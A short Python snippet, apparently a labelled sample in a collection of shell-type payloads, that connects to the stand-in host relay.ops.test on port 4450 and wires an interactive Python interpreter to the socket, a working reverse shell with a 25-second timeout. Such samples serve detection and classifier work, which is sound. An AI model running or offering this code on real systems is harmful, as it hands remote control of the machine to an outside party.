# class: shell; possible: low medium; style: the peer drives an interpreter, not a shell
import socket
import subprocess
import sys

with socket.create_connection(("relay.ops.test", 4450)) as s:
    p = subprocess.Popen([sys.executable, "-u", "-i", "-q"], stdin=s, stdout=s, stderr=subprocess.DEVNULL)
    try:
        p.wait(25)
    except subprocess.TimeoutExpired:
        p.kill()
